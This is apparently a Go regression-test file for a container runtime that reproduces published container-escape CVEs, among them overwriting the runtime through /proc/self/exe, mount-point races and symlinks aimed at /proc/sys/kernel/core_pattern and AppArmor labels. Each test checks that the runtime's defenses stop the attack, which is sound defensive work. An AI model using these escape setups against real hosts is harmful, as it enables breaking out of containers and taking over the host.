package escape

import (
	"iter"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"github.com/orlop/orlop/internal/defense"
	"github.com/orlop/orlop/internal/linux/lsm"
	"github.com/orlop/orlop/internal/testkit"
)

// An attack goes against a side and tells whether it got out, and what it saw.
type attack func(s *side) (escaped bool, said string)

// attempts are the tries of a race against this side.
func (s *side) attempts() iter.Seq[int] {
	return attempts(40, 600, len(s.dropped) > 0)
}

// attempts are the tries of a race: lost in every one where something defends;
// where nothing does, it is won after a few, or at some time on a machine whose
// processors are busy: time ends it there, but not before the least tries.
func attempts(defended, least int, undefended bool) iter.Seq[int] {
	return func(try func(int) bool) {
		deadline := time.Now().Add(testkit.Patience(2 * time.Minute))
		for i := 0; i < defended || undefended && (i < least || time.Now().Before(deadline)); i++ {
			if !try(i) {
				return
			}
		}
	}
}

// published runs an attack against our runtime, against one without the named
// defenses, and, when several are named, against ones without one of them:
// each alone stops it.
func published(t *testing.T, run attack, defenses ...defense.Name) {
	t.Helper()
	t.Run("fails", func(t *testing.T) {
		if escaped, said := run(newSide(t)); escaped {
			t.Fatalf("escaped: %s", said)
		} else {
			t.Logf("%s", said)
		}
	})
	if len(defenses) > 1 {
		for _, d := range defenses {
			t.Run("fails without "+string(d)+" alone", func(t *testing.T) {
				if escaped, said := run(newSide(t, d)); escaped {
					t.Fatalf("escaped: %s", said)
				}
			})
		}
	}
	t.Run("succeeds undefended", func(t *testing.T) {
		if escaped, said := run(newSide(t, defenses...)); !escaped {
			t.Fatalf("the attack does not work, so its failure proves nothing: %s", said)
		}
	})
}

// raced repeats a container until it got out.
func raced(s *side, bundle string, escaped func(out string) bool) (bool, string) {
	last := ""
	for range s.attempts() {
		last, _ = s.container(bundle)
		if escaped(last) {
			return true, last
		}
	}
	return false, last
}

func sawSecret(out string) bool { return strings.Contains(out, secret) }

// CVE-2019-5736: the container executes /proc/self/exe, which is the runtime, and
// writes to that file when it has ended.
func TestCVE20195736OverwriteTheRuntime(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		bundle := s.bundle(func(_ *specs.Spec, root string) {
			write(t, root+"/victim", "#!/proc/self/exe --log=/fifo\n")
			if err := os.Chmod(root+"/victim", 0o755); err != nil {
				t.Fatal(err)
			}
			if err := unix.Mkfifo(root+"/fifo", 0o666); err != nil {
				t.Fatal(err)
			}
		}, "overwrite", "/fifo")
		// Priorities take a stage: without one there is no program of ours in the
		// container but 300 bytes that end at once (decision 0017).
		write(t, bundle+"/process.json", `{"args":["/victim"],"cwd":"/","user":{"uid":0,"gid":0},"ioPriority":{"class":"IOPRIO_CLASS_BE","priority":4}}`)
		attacker := s.background(bundle, "waiting for the runtime")
		s.run("exec", "-p", bundle+"/process.json", filepath.Base(bundle))
		said := attacker.wait(t, "failed:", "overwritten")
		if !strings.Contains(said, "holding the runtime's program") {
			t.Fatalf("the attack did not come to its last step: %s", said)
		}
		body, err := os.ReadFile(s.program)
		if err != nil {
			t.Fatal(err)
		}
		return strings.HasPrefix(string(body), "#!"), said
	}, defense.SealedExecutable)
}

// CVE-2021-30465: the place of a mount is exchanged for a link between being
// looked at and being used. A volume then covers a folder of the host in the
// eyes of the next mount, whose source is a link of the attacker's.
func TestCVE202130465ExchangeThePlaceOfAMount(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		// The host's folder with volumes, and two of them.
		volumes := filepath.Join(s.dir, "volumes")
		one, two := volumes+"/one", volumes+"/two"
		mkdir(t, one+"/place", two, volumes+"/third")
		link(t, volumes, one+"/other") // absolute: what it is on the host
		link(t, s.dir, two+"/third")   // seen once two lies over volumes
		s.background(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(one, "/vol"))
		}, "swap", "/vol/place", "/vol/other"), "swapping")
		return raced(s, s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(one, "/vol"))
			spec.Mounts = append(spec.Mounts, bind(two, "/vol/place"), bind(volumes+"/third", "/third"))
		}, "read", "/third/secret"), sawSecret)
	}, defense.PlacesInside)
}

// CVE-2024-45310: by the same race a missing mount point is made on the host.
func TestCVE202445310MakeAPlaceOnTheHost(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		volume, host := s.dir+"/volume", s.dir+"/host"
		mkdir(t, volume+"/place", host)
		link(t, host, volume+"/other")
		s.background(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(volume, "/vol"))
		}, "swap", "/vol/place", "/vol/other"), "swapping")
		made := func(string) bool {
			entries, err := os.ReadDir(host)
			if err != nil {
				t.Fatal(err)
			}
			return len(entries) > 0
		}
		return raced(s, s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(volume, "/vol"), bind(s.dir+"/program", "/vol/place/made"))
		}, "true"), made)
	}, defense.PlacesInside)
}

// CVE-2024-21626: a folder of the host that the runtime forgot to close is the
// current folder, or on the way to the program.
func TestCVE202421626CurrentFolderOfTheHost(t *testing.T) {
	for _, how := range []string{"run", "exec"} {
		t.Run(how, func(t *testing.T) {
			published(t, func(s *side) (bool, string) {
				up := strings.Repeat("../", 12)
				all := ""
				id := ""
				if how == "exec" {
					b := s.bundle(nil, "swap", "/tmp/a", "/tmp/b")
					mkdir(t, b+"/rootfs/tmp/a", b+"/rootfs/tmp/b")
					s.background(b, "swapping")
					id = filepath.Base(b)
				}
				for fd := 3; fd < 40; fd++ {
					cwd := "/proc/self/fd/" + string(rune('0'+fd/10)) + string(rune('0'+fd%10))
					cwd = strings.Replace(cwd, "/0", "/", 1)
					var out string
					if how == "exec" {
						out, _ = s.run("exec", "--cwd", cwd, id, "/probe", "read", up+s.secret()[1:])
					} else {
						out, _ = s.container(s.bundle(func(spec *specs.Spec, _ string) { spec.Process.Cwd = cwd }, "read", up+s.secret()[1:]))
					}
					if sawSecret(out) {
						return true, out
					}
					all = out
				}
				return false, all
			}, defense.HostDescriptors, defense.CwdInside)
		})
	}
}

// CVE-2025-31133: /dev/null of the container is a link, and what it leads to
// appears at every masked file.
func TestCVE202531133MaskByALink(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		dev := filepath.Join(s.dir, "dev")
		mkdir(t, dev)
		link(t, "/proc/sys/kernel/core_pattern", dev+"/null")
		pattern, err := os.ReadFile("/proc/sys/kernel/core_pattern")
		if err != nil {
			t.Fatal(err)
		}
		out, _ := s.container(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = []specs.Mount{spec.Mounts[0], bind(dev, "/dev")}
		}, "read", "/proc/interrupts"))
		return strings.Contains(out, "/proc/interrupts: "+string(pattern)), out
	}, defense.NullIsNull)
}

// CVE-2025-52565: /dev/pts/N is exchanged for a link, and what it leads to is
// bound, writable, to /dev/console before anything is masked.
func TestCVE202552565ConsoleByALink(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		dev := filepath.Join(s.dir, "dev")
		mkdir(t, dev+"/pts", dev+"/other")
		for _, n := range []string{"0", "1", "2"} {
			link(t, "/proc/sys/kernel/core_pattern", dev+"/other/"+n)
		}
		s.background(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(dev, "/vol"))
		}, "swap", "/vol/pts", "/vol/other"), "swapping")
		last := ""
		for range s.attempts() {
			out := s.terminal(s.bundle(func(spec *specs.Spec, _ string) {
				spec.Process.Terminal = true
				spec.Mounts = []specs.Mount{spec.Mounts[0], bind(dev, "/dev"), spec.Mounts[2]}
			}, "rewrite", "/dev/console"))
			if strings.Contains(out, "rewritten") && strings.Contains(out, "core") {
				return true, out
			}
			last = out
		}
		return false, last
	}, defense.ConsoleByDescriptor)
}

// CVE-2025-52881: what the runtime writes to procfs is led elsewhere by a mount
// inside /proc: a setting of the container becomes one of the host's.
func TestCVE202552881LeadAWriteElsewhere(t *testing.T) {
	const global = "/proc/sys/kernel/core_pipe_limit"
	before, err := os.ReadFile(global)
	if err != nil {
		t.Fatal(err)
	}
	const mark = "4711"
	published(t, func(s *side) (bool, string) {
		volume, fake := s.dir+"/volume", s.dir+"/fake"
		mkdir(t, volume, fake)
		link(t, "/proc/sys/net/ipv4", volume+"/place")
		link(t, global, fake+"/ip_unprivileged_port_start")
		out, _ := s.container(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(volume, "/vol"), bind(fake, "/vol/place"))
			spec.Linux.Sysctl = map[string]string{"net.ipv4.ip_unprivileged_port_start": mark}
			spec.Linux.ReadonlyPaths = nil
		}, "true"))
		after, err := os.ReadFile(global)
		if err != nil {
			t.Fatal(err)
		}
		if strings.TrimSpace(string(after)) != mark {
			return false, out
		}
		if err := os.WriteFile(global, before, 0); err != nil {
			t.Fatal(err)
		}
		return true, out
	}, defense.ProcUncovered, defense.OwnProc)
}

// The other half of CVE-2025-52881: the container's label is written into a file of
// the attacker's, and the container starts unconfined.
func TestCVE202552881LeadALabelElsewhere(t *testing.T) {
	if !lsm.AppArmorEnabled() {
		t.Skip("the kernel has no AppArmor")
	}
	if err := lsm.LoadDefaultAppArmor(t.Context(), lsm.DefaultProfile); err != nil {
		t.Fatal(err)
	}
	published(t, func(s *side) (bool, string) {
		volume, fake := s.dir+"/volume", s.dir+"/fake"
		mkdir(t, volume, fake+"/thread-self/attr/apparmor")
		link(t, "/proc", volume+"/place")
		write(t, fake+"/thread-self/attr/apparmor/exec", "")
		out, _ := s.container(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts, bind(volume, "/vol"), bind(fake, "/vol/place"))
			spec.Process.ApparmorProfile = lsm.DefaultProfile
			spec.Linux.ReadonlyPaths, spec.Linux.MaskedPaths = nil, nil
		}, "true"))
		label, err := os.ReadFile(fake + "/thread-self/attr/apparmor/exec")
		if err != nil {
			t.Fatal(err)
		}
		return string(label) == "exec "+lsm.DefaultProfile, out
	}, defense.ProcUncovered, defense.OwnProc)
}

// CVE-2019-16884: something else over /proc, so that labels go nowhere.
func TestCVE201916884CoverProc(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		fake := s.dir + "/fake"
		mkdir(t, fake+"/self/attr")
		out, code := s.container(s.bundle(func(spec *specs.Spec, _ string) {
			spec.Mounts = append(spec.Mounts[1:], bind(fake, "/proc"))
		}, "true"))
		return code == 0, out
	}, defense.ProcUncovered)
}

// CVE-2019-19921 and CVE-2023-27561: the image's /proc is a link, so that what is
// masked later is not what the container sees.
func TestCVE201919921ProcIsALink(t *testing.T) {
	published(t, func(s *side) (bool, string) {
		out, code := s.container(s.bundle(func(_ *specs.Spec, root string) {
			if err := os.Remove(root + "/proc"); err != nil {
				t.Fatal(err)
			}
			mkdir(t, root+"/evil/level1~/level2")
			link(t, "/evil/level1~/level2", root+"/proc")
		}, "true"))
		return code == 0, out
	}, defense.ProcOrdinary)
}

func bind(source, dest string) specs.Mount {
	return specs.Mount{Destination: dest, Type: "bind", Source: source, Options: []string{"rbind", "rprivate"}}
}
